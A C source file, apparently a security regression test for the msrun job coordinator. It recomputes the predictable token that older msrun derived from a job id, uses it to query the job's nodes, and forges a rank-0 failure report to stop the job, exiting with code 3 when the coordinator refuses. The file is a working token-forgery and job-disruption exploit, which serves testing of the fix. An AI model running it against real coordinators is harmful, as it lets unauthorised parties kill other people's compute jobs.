/* An attacker who can reach the coordinator's port but was never given the
 * job's token: it computes the token that msrun once derived from the job id
 * (a multi-node job without --token used it), asks the coordinator for the
 * job's nodes and reports a fake failure of rank 0 (exit code 42), which
 * would stop the whole job.
 * Usage: attack_report HOST:PORT JOB_ID
 * Exit status: 0 when the fake report was taken (the attack worked), 3 when
 * the coordinator refused the calls (PERMISSION_DENIED), 1 on other errors. */
#include <stdio.h>
#include <string.h>

#include "base/err.h"
#include "base/time.h"
#include "rendezvous/rpc.h"

/* The token msrun derived from the job id before it made random ones. */
static void old_default_token(const char *job_id, char *out, size_t len)
{
    unsigned long long h1 = 1469598103934665603ull, h2 = 0x9e3779b97f4a7c15ull;
    for (const unsigned char *p = (const unsigned char *)job_id; *p; p++) {
        h1 = (h1 ^ *p) * 1099511628211ull;
        h2 = (h2 ^ *p) * 0xff51afd7ed558ccdull;
    }
    snprintf(out, len, "msr-%016llx%016llx", h1, h2);
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: attack_report HOST:PORT JOB_ID\n");
        return 1;
    }
    char token[64];
    old_default_token(argv[2], token, sizeof token);
    msr_rpc_channel_t *ch = NULL;
    if (msr_rpc_channel_create(argv[1], token, &ch) != MSR_OK) {
        fprintf(stderr, "attack: no channel to %s\n", argv[1]);
        return 1;
    }
    int rc = 1;
    Msr__StatusRequest sreq = MSR__STATUS_REQUEST__INIT;
    ProtobufCMessage *resp = NULL;
    msr_status_t st =
        msr_rpc_call(ch, MSR_RPC_STATUS, &sreq.base, msr_deadline_in_ms(10000), 1, &resp);
    if (st != MSR_OK) {
        printf("attack: status %s: %s\n", st == MSR_ERR_PERMISSION ? "refused" : "failed",
               msr_err_msg());
        rc = st == MSR_ERR_PERMISSION ? 3 : 1;
        goto out;
    }
    const Msr__StatusResponse *s = (const Msr__StatusResponse *)resp;
    if (s->n_nodes == 0) {
        printf("attack: the job has no nodes yet\n");
        goto out;
    }
    Msr__Failure f = MSR__FAILURE__INIT;
    f.node_rank = 0;
    f.rank = 0;
    f.exit_code = 42;
    f.generation = s->generation;
    f.reason = "exited";
    Msr__ReportRequest req = MSR__REPORT_REQUEST__INIT;
    req.node_id = s->nodes[0]->node_id;
    req.generation = s->generation;
    req.exit = &f;
    ProtobufCMessage *rresp = NULL;
    st = msr_rpc_call(ch, MSR_RPC_REPORT, &req.base, msr_deadline_in_ms(10000), 1, &rresp);
    msr_rpc_message_free(rresp);
    if (st == MSR_OK) {
        printf("attack: the fake report was taken\n");
        rc = 0;
    } else {
        printf("attack: report %s: %s\n", st == MSR_ERR_PERMISSION ? "refused" : "failed",
               msr_err_msg());
        rc = st == MSR_ERR_PERMISSION ? 3 : 1;
    }
out:
    msr_rpc_message_free(resp);
    msr_rpc_channel_destroy(ch);
    return rc;
}
